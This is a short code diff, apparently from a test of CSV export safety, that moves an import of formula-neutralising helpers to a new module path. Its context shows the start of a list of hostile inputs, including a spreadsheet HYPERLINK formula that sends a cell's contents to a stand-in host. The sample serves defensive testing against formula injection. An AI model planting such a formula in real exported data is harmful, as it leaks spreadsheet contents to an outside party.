@@ -10,7 +10,7 @@ import pyarrow.csv as pacsv
 import pyarrow.parquet as pq
 
 from assets.exports import write_dataset_files
-from pipelines.csv_safety import FORMULA_PREFIXES, neutralise_formulas
+from lakehouse.csv_safety import FORMULA_PREFIXES, neutralise_formulas
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
